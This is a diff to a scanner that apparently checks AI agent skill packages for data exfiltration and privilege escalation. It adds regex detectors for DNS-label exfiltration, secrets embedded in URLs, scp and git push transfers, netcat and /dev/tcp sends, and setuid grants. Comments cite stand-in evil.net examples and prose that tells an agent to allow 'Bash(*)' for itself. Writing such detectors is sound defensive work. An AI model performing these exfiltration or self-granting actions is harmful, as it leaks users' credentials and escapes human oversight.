@@ -11074,9 +11074,14 @@ function namesSecret(s) {
             return true;
     return false;
 }
+/** A lookup call (a DNS send site), and code that encodes data into what labels can carry. */
+const DNS_LOOKUP = /\b(?:gethostbyname|getaddrinfo)|\b(?:dns|resolver)\.(?:resolve|lookup|query)/;
+const ENCODES = /\b(?:b(?:16|32|64|85)encode|hexlify|urlsafe_b64encode|btoa)\s*\(|\.hex\(\)|toString\(\s*["'](?:hex|base64)|["'](?:hex|base64|base32)["']\s*\)/;
+/** A URL that carries a secret as its password: `https://user:${TOKEN}@host`, `:${{ secrets.T }}@`. */
+const URL_SECRET = /:\/\/[\w.%-]*:(?:\$\{\{[^}\n]*\}\}|\$\{?[A-Za-z_]\w*\}?)@/;
 /** `withEnv` false: a dump of the environment does not count (E2 reports it where it is read). */
 function sensitivity(s, withEnv = true) {
-    if (namesSecret(s) || ENCODED_OUT.test(s))
+    if (namesSecret(s) || ENCODED_OUT.test(s) || URL_SECRET.test(s))
         return 2;
     if ((mayNameCredPath(s) && CRED_PATH.test(s)) ||
         (withEnv && ENV_DUMP.test(s)) ||
@@ -11156,11 +11161,25 @@ const SEND_SITES = [
         re: /\b(?:nc|ncat|netcat|socat)\s+(?:-\w+\s+)*[\w.-]+\.[a-z]{2,}\s+\d{2,5}[^\n]*|^[^\n]*?>\s*\/dev\/(?:tcp|udp)\/[^\n]*/gm,
         call: false,
     },
-    { langs: ["shell"], re: /\b(?:scp|rsync|sftp)\s+[^\n]*\s[\w.-]+@[\w.-]+:[^\n]*/g, call: false },
+    // The remote may be a variable ("$BASTION:/keys/"): unnamed, it still reports what it carries.
+    {
+        langs: ["shell"],
+        re: /\b(?:scp|rsync|sftp)\s+[^\n]*\s["']?(?:[\w.-]+@[\w.-]+|\$\{?[A-Za-z_]\w*\}?):[^\n]*/g,
+        call: false,
+    },
+    // A push of the repository to a URL (a workflow's `run:` too): the history, and any token in it, leave.
+    { langs: ["shell", "config"], re: /\bgit\s+push\b[^\n]*?["']?https?:\/\/[^\n]*/g, call: false },
     {
         langs: ["shell"],
         re: /\b(?:nslookup|dig|host|ping)\s+[^\n]*\$(?:\([^\n]*\)|\{?\w+\}?)\.[\w.-]+[^\n]*/g,
         call: false,
+    },
+    // A lookup whose leftmost labels are built from data (f"{chunk}.{n}.x.evil.net"): DNS carries them out.
+    {
+        langs: ["python", "js"],
+        re: /\b(?:socket\.(?:gethostbyname(?:_ex)?|getaddrinfo)|dns\.(?:resolve\w*|lookup)|(?:dns\.)?resolver\.(?:resolve|query))\s*\(/g,
+        call: true,
+        needs: /(?:\}|\+\s*["'`])\.?(?:[\w-]+\.)+(?!(?:local|internal|lan|localhost|corp|home|arpa)(?![\w.-]))[a-z]{2,}(?![\w.-])/,
     },
     // A lookup or a transfer run through a process call: os.popen(f"dig {encoded}.x.evil.net").
     {
@@ -11173,6 +11192,17 @@ const SEND_SITES = [
         langs: ["powershell"],
         re: /\b(?:Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b[^\n]*-Method\s+["']?(?:Post|Put)[^\n]*/gi,
         call: false,
+    }, // Compiled languages (Go, C#, Java, Rust): the standard clients' calls that send a body.
+    {
+        langs: ["source"],
+        re: /\bhttp\.(?:Post|PostForm)\s*\(|\.(?:PostAsync|PutAsync|PatchAsync)\s*\(|\.POST\s*\(\s*HttpRequest\.BodyPublishers\b|\breqwest::(?:blocking::)?Client::new\(\)\s*\.(?:post|put|patch)\s*\(/g,
+        call: true,
+    },
+    {
+        langs: ["source"],
+        re: /\bhttp\.NewRequest(?:WithContext)?\s*\(/g,
+        call: true,
+        needs: /"(?:POST|PUT|PATCH)"|\bhttp\.Method(?:Post|Put|Patch)\b/,
     },
 ];
 /** HTTP client objects bound to a name (`s = requests.Session()`, `async with httpx.AsyncClient() as c`). */
@@ -11198,7 +11228,8 @@ function clientSites(file) {
     ];
 }
 function resolveHost(stmt, fileText) {
-    const lit = FIRST_URL.exec(stmt);
+    // A workflow expression in a URL's credentials ("https://x:${{ secrets.T }}@host") holds spaces.
+    const lit = FIRST_URL.exec(stmt.replace(/\$\{\{[^}\n]*\}\}/g, "x"));
     if (lit)
         return hostOf(lit[0]);
     // Node's request options name the host without a scheme: { host: "x.example", method: "POST" }.
@@ -11401,6 +11432,10 @@ const E1_SEND = {
             const sens = Math.max(sensitivity(stmt, false), taintOf(stmt, scope.noEnv));
             if (sens < 1 && Math.max(sensitivity(stmt), taintOf(stmt, scope.all)) === 2)
                 continue;
+            // A lookup carries data only in labels it was encoded into (DNS takes [a-z0-9-]); a sharded
+            // host name ("{region}.api.vendor.com") is not a channel.
+            if (DNS_LOOKUP.test(m[0]) && sens < 1 && !ENCODES.test(r.text))
+                continue;
             // A document's example call to a documentation host (RFC 2606) sends nothing anywhere. A program
             // the skill ships, or a secret in the example, still shows what it is written to do.
             if (sens < 2 && file.markdown && host && RESERVED_HOST.test(host))
@@ -11443,6 +11478,8 @@ const E1_SEND = {
                 line: helpers_lineOf(r, at),
                 col: colOf(r, at),
                 confidence: conf,
+                // Named secrets or credential files, beyond any environment dump sent with them.
+                ...(sens === 2 ? { rule: "send-credentials" } : {}),
                 message: `Sends ${what} to ${host ?? "a network endpoint"}${host && !declared ? ", a host the skill's documentation never mentions" : ""}`,
             });
         }
@@ -12221,6 +12258,17 @@ const PE1_GRANT_IN_CODE = {
 const PE1_RULES = [
     PE1_ALLOWED_TOOLS,
     PE1_GRANT_IN_CODE,
+    // "Add `Bash(*)` to the allow list in .claude/settings.json": the grant, asked of the agent in prose.
+    textRule({
+        id: "PE1.allow-all-prose",
+        pattern: "PE1",
+        confidence: 0.7,
+        contexts: ["prose", "hidden"],
+        examples: false,
+        message: "Tells the agent to grant itself every command in its permission settings",
+        regex: /\b(?:add|put|append|insert|include|set)\b[^.\n]{0,30}?[`"']+(?:Bash\(\*(?::\*)?\)|Bash|\*)[`"']+[^.\n]{0,60}?\b(?:allow(?:ed)?(?:[\s-]?list)?|permissions?(?:\.allow)?)\b/gi,
+        check: (c) => !/\b(?:never|not|don['\u2019]t|avoid|instead\s+of)\b/i.test(clauseBefore(c)),
+    }),
     privilege_rule({
         id: "PE1.world-writable",
         pattern: "PE1",
@@ -12401,7 +12449,7 @@ const PE2_RULES = [
         confidence: 0.8,
         contexts: ["code", "prose"],
         message: "Gives root ownership or the setuid bit, or edits sudoers",
-        regex: /\bchmod\s+(?:-\w+\s+)*(?:[ugoa]*\+s\b|0?[4-7][0-7]{3}\b)|\bchown\s+(?:-\w+\s+)*root\b|\bNOPASSWD\b|\/etc\/sudoers\b|\bvisudo\b|\busermod\s+-aG\s+(?:sudo|wheel|root|docker)\b/gi,
+        regex: /\bchmod\s+(?:-\w+\s+)*(?:[ugoa]*\+s\b|0?[4-7][0-7]{3}\b)|\binstall\s+(?:-[\w-]+\s+(?:[\w.:-]+\s+)?)*?-m\s*0?[4-7][0-7]{3}\b|\bchown\s+(?:-\w+\s+)*root\b|\bNOPASSWD\b|\/etc\/sudoers\b|\bvisudo\b|\busermod\s+-aG\s+(?:sudo|wheel|root|docker)\b/gi,
     }),
     privilege_rule({
         id: "PE2.run-as-root",
@@ -13588,6 +13636,7 @@ const HINTS = {
         "defaultmode",
     ],
     "PE1.allow-all-settings": ["allow"],
+    "PE1.allow-all-prose": ["allow", "permission"],
     "PE2.sudo": ["sudo"],
     "PE2.system-paths": [
         "/etc/",
@@ -13614,7 +13663,7 @@ const HINTS = {
     "SC2.exec-outside-file": ["/tmp/", "/var/tmp/", "/dev/shm/", "~/.", "$home/.", "/home/"],
     "PE2.sudo-prose": ["sudo"],
     "PE2.su-root": ["su ", "doas", "pkexec", "runas", "setuid", "seteuid", "setgid", "setegid", "setresuid"],
-    "PE2.setuid-root": ["chmod", "chown", "nopasswd", "sudoers", "visudo", "usermod"],
+    "PE2.setuid-root": ["chmod", "chown", "nopasswd", "sudoers", "visudo", "usermod", "install"],
     "PE2.run-as-root": ["root", "user", "-u 0"],
     "PE2.prose-root": ["root", "admin", "superuser", "elevated", "sudo"],
     "PE3.prose-credentials": [
@@ -14538,7 +14587,8 @@ const ORDER = new Map(patterns/* PATTERN_IDS */.uu.map((p, i) => [p, i]));
 function finalize(raw) {
     const best = new Map();
     const at = (p) => new Set(raw.filter((f) => f.pattern === p).map((f) => `${f.file}\0${f.line}`));
-    // Harvesting the environment and sending it in one statement is one E2 finding, not E2 + E1; a
+    // Harvesting the environment and sending it in one statement is one E2 finding, not E2 + E1 (unless
+    // named secrets or credential files go with it: E1.send-credentials); a
     // command quoted in an instruction to send data out is the P3 of that sentence, not also an E1.
     const e2 = at("E2");
     const p3 = at("P3");
@@ -14549,7 +14599,8 @@ function finalize(raw) {
     for (const f of raw) {
         if (f.rule.endsWith(".learned") && nearRule(f))
             continue;
-        if (f.pattern === "E1" && (e2.has(`${f.file}\0${f.line}`) || p3.has(`${f.file}\0${f.line}`)))
+        if (f.pattern === "E1" &&
+            ((e2.has(`${f.file}\0${f.line}`) && f.rule !== "E1.send-credentials") || p3.has(`${f.file}\0${f.line}`)))
             continue;
         // Listing the credential manager's entries right before reading them is the same access.
         if (f.rule === "PE3.credential-command" &&
